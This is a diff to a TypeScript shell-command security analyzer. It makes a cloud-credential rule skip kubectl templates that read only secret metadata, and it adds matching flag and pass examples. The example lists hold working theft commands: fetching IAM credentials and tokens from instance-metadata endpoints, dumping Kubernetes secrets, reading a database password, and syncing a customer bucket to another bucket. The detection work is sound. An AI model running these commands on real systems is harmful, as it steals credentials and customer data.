@@ -2322,6 +2322,10 @@ const SENSITIVE_BUCKET = /(?:^|[^a-z])(?:prod|production|customers?|pii|backups?
 const s3Bucket = (url: string): string => url.slice(5).split('/')[0]!.toLowerCase();
 
 /** Credentials pulled from instance metadata, Kubernetes secrets dumped, buckets bulk-copied out. */
+/** A kubectl output template that reads an object's metadata, and one that reads a secret's values. */
+const SECRET_METADATA = /\.metadata\b/;
+const SECRET_VALUES = /\.(?:data|stringdata)\b/;
+
 function cloudCredFinding(ctx: CommandContext): Finding | null {
   let b: Finding | null = null;
   const keep = (f: Finding): void => { if (b === null || (f.score ?? 0) > (b.score ?? 0)) b = f; };
@@ -2336,7 +2340,10 @@ function cloudCredFinding(ctx: CommandContext): Finding | null {
       const gi = a.indexOf('get');
       if (gi >= 0 && /^(?:secrets?|secret\/.{1,80}|secrets\/.{1,80})$/.test(a[gi + 1] ?? '')) {
         const out = optionValue(a, '-o', '--output') || (a.find((x) => /^-o(?:yaml|json|jsonpath|go-template)/.test(x)) ?? '').slice(2);
-        if (/^(?:ya?ml|json|jsonpath|go-template)/.test(out)) {
+        // a template that selects only the object's metadata (names, labels, timestamps) prints no secret value
+        const template = out.slice(out.indexOf('=') + 1);
+        const metadataOnly = /^(?:jsonpath|go-template)/.test(out) && SECRET_METADATA.test(template) && !SECRET_VALUES.test(template);
+        if (/^(?:ya?ml|json|jsonpath|go-template)/.test(out) && !metadataOnly) {
           const every = a.includes('-a') || a.includes('--all-namespaces');
           keep({ detail: `${c.name} get secrets -o ${out.split('=')[0]}${every ? ' across all namespaces' : ''} prints secret values`, score: every ? 8 : 4 });
         }
@@ -3048,8 +3055,8 @@ const rules: Rule[] = [
     keywords: ['169.254.', 'metadata', '100.100.100.200', 'fd00:ec2', 'kubectl', 'oc ', 'aws', 'gsutil', 'az '],
     detect: cloudCredFinding,
     examples: {
-      flag: ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role', 'wget -qO- "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token" --header "Metadata-Flavor: Google"', 'kubectl get secrets --all-namespaces -o json', 'aws s3 sync s3://prod-customers ./x && aws s3 sync ./x s3://my-other-bucket'],
-      pass: ['curl -s http://169.254.169.254/latest/meta-data/instance-id', 'kubectl get secrets -n dev', 'aws s3 sync ./build s3://site-staging', 'kubectl describe secret app-tls -n web'],
+      flag: ["kubectl get secret db-creds -n prod -o jsonpath='{.data.password}'", 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role', 'wget -qO- "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token" --header "Metadata-Flavor: Google"', 'kubectl get secrets --all-namespaces -o json', 'aws s3 sync s3://prod-customers ./x && aws s3 sync ./x s3://my-other-bucket'],
+      pass: ['curl -s http://169.254.169.254/latest/meta-data/instance-id', 'kubectl get secrets -n dev', 'aws s3 sync ./build s3://site-staging', 'kubectl describe secret app-tls -n web', "kubectl get secret db-creds -n prod -o jsonpath='{.metadata.creationTimestamp}'"],
     },
   },
   {
@@ -3237,7 +3244,7 @@ const commandAnalyzer: Analyzer<CommandContext> = {
   rules,
   textParts: (ctx) => [(ctx as CommandCtx).head, (ctx as CommandCtx).tail],
   auxPatterns: [
-    LOCAL_IP,
+    LOCAL_IP, SECRET_METADATA, SECRET_VALUES,
     SHELL_META,
     ...SHELL_PATTERNS, ...CMD_PATH_PATTERNS, EXFIL_HOSTS, RAW_IP_URL, SECRET_VAR, PRINTED_SECRET, SUBST_HOST, VAR_HOST, OCTAL_MODE, SYMBOLIC_MODE,
     BLOCK_DEV, LOCAL_HOSTNAME, WELL_KNOWN, PROTECTED_BRANCH, MKFS, SUID_TARGETS, ADMIN_GROUPS, CRITICAL_FILE,
